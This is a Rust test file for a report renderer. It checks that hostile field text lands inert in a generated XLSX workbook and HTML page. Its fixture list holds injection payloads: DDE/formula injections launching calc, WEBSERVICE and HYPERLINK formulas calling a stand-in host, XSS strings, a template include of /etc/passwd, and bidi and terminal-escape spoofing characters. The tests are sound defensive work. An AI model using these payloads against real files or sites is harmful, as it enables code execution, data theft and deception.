//! A field's text → workbook and page: it stays text, character by character, even if it looks like
//! code.

use jixiao::finding::Read;
use jixiao::workbook::{self, Workbook};
use jixiao::write::Format;

use super::{Row, WHOLE, all_the_same, base, codes, soon};

/// Name of the case, and the text.
const TEXTS: &[(&str, &str)] = &[
    ("公式 =", "=1+1"),
    ("公式 DDE", "=cmd|' /C calc'!A0"),
    ("公式 +", "+1+cmd|' /C calc'!A0"),
    ("公式 -", "-2+3+cmd|' /C calc'!A0"),
    ("公式 @", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("制表符后的公式", "\t=1+1"),
    ("回车后的公式", "\r=1+1"),
    ("换行后的公式", "\n=1+1"),
    ("空格后的公式", " =1+1"),
    ("全角等号", "＝1+1"),
    ("全角加减与 at", "＋1－1＠A1"),
    (
        "外链公式",
        "=HYPERLINK(\"http://a.example/?\"&A1,\"点这里\")",
    ),
    ("取外部数据", "=WEBSERVICE(\"http://a.example/\")"),
    ("外部工作簿", "='\\\\a.example\\share\\[b.xlsx]S'!A1"),
    ("撇号开头", "'=1+1"),
    ("两个撇号", "''=1+1"),
    ("数组公式", "{=SUM(A1:A9)}"),
    ("网址", "https://a.example/?a=1&b=2"),
    ("脚本链接", "javascript:alert(1)"),
    ("文件链接", "file:///etc/passwd"),
    ("转义的十六进制", "_x0041__x000D_"),
    ("脚本", "<script>alert(1)</script>"),
    ("事件属性", "\" onmouseover=\"alert(1)"),
    ("单引号事件属性", "' onerror='alert(1)"),
    ("图片", "<img src=x onerror=alert(1)>"),
    ("提前结束的表", "</td></tr></table><h1>甲</h1>"),
    ("注释", "<!-- 甲 -->"),
    ("CDATA", "<![CDATA[甲]]>"),
    ("CDATA 的结尾", "]]>"),
    ("实体", "&lt;b&gt; &amp; &#60; &#x3c; &nbsp;"),
    ("没有定义的实体", "&lol9;"),
    ("文档类型", "<!DOCTYPE a [<!ENTITY b \"c\">]>"),
    ("处理指令", "<?xml version=\"1.0\"?><?php echo 1 ?>"),
    ("样式", "</style><style>td{display:none}</style>"),
    ("模板的输出", "{{ 7 * 7 }}"),
    ("模板的语句", "{% include \"/etc/passwd\" %}"),
    ("模板的注释", "{# 甲 #}"),
    ("页脚的记号", "{page} {pages} &P &N &D"),
    ("PDF 的结尾", ") Tj ET endstream endobj %%EOF"),
    ("倒排 U+202E", "拨款\u{202E}元万001"),
    ("嵌入 U+202A", "\u{202A}abc\u{202C}"),
    ("隔离不结束 U+2067", "\u{2067}abc"),
    ("左右标记", "甲\u{200E}乙\u{200F}丙\u{61C}"),
    ("零宽空格", "水\u{200B}务局"),
    ("零宽连接", "水\u{200C}务\u{200D}局"),
    ("字组连接 U+2060", "水\u{2060}务局"),
    ("字节顺序标记", "\u{FEFF}水务局"),
    ("软连字符", "水\u{AD}务局"),
    ("字形选择符", "葛\u{E0100}县 \u{2600}\u{FE0F}"),
    ("标签字符", "水务\u{E0041}\u{E007F}局"),
    ("谚文填充", "水\u{3164}务局"),
    ("行间注记", "\u{FFF9}水\u{FFFA}务\u{FFFB}局"),
    ("空字符", "水\u{0}务局"),
    ("响铃", "水\u{7}务局"),
    ("退格", "水务局\u{8}\u{8}利局"),
    ("转义序列", "\u{1B}[31m水务局\u{1B}[0m"),
    ("终端标题", "\u{1B}]0;甲\u{7}水务局"),
    ("C1 控制", "水\u{9B}31m务局"),
    ("删除字符", "水\u{7F}务局"),
    ("垂直制表与换页", "水\u{B}务\u{C}局"),
    ("不是字符 U+FFFE", "水\u{FFFE}务局"),
    ("不是字符 U+FDD0", "水\u{FDD0}务\u{10FFFF}局"),
    ("行分隔与段分隔", "水\u{2028}务\u{2029}局"),
    ("分解的字母", "cafe\u{301}"),
    (
        "叠加百重",
        "水\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}\u{30C}务局",
    ),
    ("兼容汉字", "\u{F90A}\u{2F801}"),
    ("私用区", "水\u{E000}\u{F8FF}务局"),
    ("末个平面", "水\u{10FFFD}务局"),
    ("表情连写", "👨\u{200D}👩\u{200D}👧"),
    ("旗帜", "🇨🇳"),
    ("只有空格", "   "),
    ("窄空格与蒙古空格", "1\u{202F}000\u{2009}元"),
];

pub(super) fn rows() -> Vec<Row> {
    let base_page = page(&made("制度健全").1);
    let rows = TEXTS.iter().map(|(case, hostile)| {
        let (found, files) = soon(case, || made(hostile));
        // The same tags as for a harmless text, plus one for each line break and two around a
        // replaced control character.
        let page = page(&files);
        let signs = page.matches("<span class=\"control\"").count();
        assert!(signs <= hostile.chars().count(), "{case}");
        let lines = hostile.matches(['\n', '\r']).count() + 2 * signs;
        for bracket in ['<', '>'] {
            assert_eq!(
                page.matches(bracket).count(),
                base_page.matches(bracket).count() + lines,
                "{case}"
            );
        }
        Row::new(
            case,
            hostile,
            format!("{found};工作簿:{}", in_workbook(case, &files)),
        )
    });
    rows.collect()
}

/// Findings of a text in a field, and the workbook and page written despite errors.
fn made(hostile: &str) -> (String, Vec<jixiao::render::OutputFile>) {
    let mut data = base();
    data["department"]["regulations"] = hostile.into();
    let options = all_the_same(&[Format::Xlsx, Format::Html]);
    let rendered = WHOLE.render("a.json", data.to_string().as_bytes(), &options);
    let rendered = rendered.unwrap();
    (codes(&rendered.report), rendered.files)
}

fn page(files: &[jixiao::render::OutputFile]) -> String {
    let page = files.iter().find(|file| file.name.ends_with(".html"));
    String::from_utf8(page.unwrap().bytes.clone()).unwrap()
}

/// The text as a reader of the workbook gets it: the cell to the right of the field's label.
fn in_workbook(case: &str, files: &[jixiao::render::OutputFile]) -> String {
    let book = files
        .iter()
        .find(|file| file.name.ends_with(".xlsx"))
        .unwrap();
    let Read {
        value: book,
        report,
    } = workbook::read(&book.name, &book.bytes);
    assert!(!report.has_errors(), "{case}: {report:?}");
    let book: Workbook = book.unwrap();
    let cells = &book.sheets[0].cells;
    let label = cells
        .iter()
        .find(|cell| cell.text().starts_with("部门（单位）基本制度"));
    let label = label.unwrap();
    let beside = cells
        .iter()
        .filter(|cell| cell.row == label.row && cell.col > label.col);
    let Some(cell) = beside.min_by_key(|cell| cell.col) else {
        return "空".to_owned();
    };
    assert!(cell.formula.is_none(), "{case}: {cell:?}");
    jixiao::text::quote(&cell.text())
}
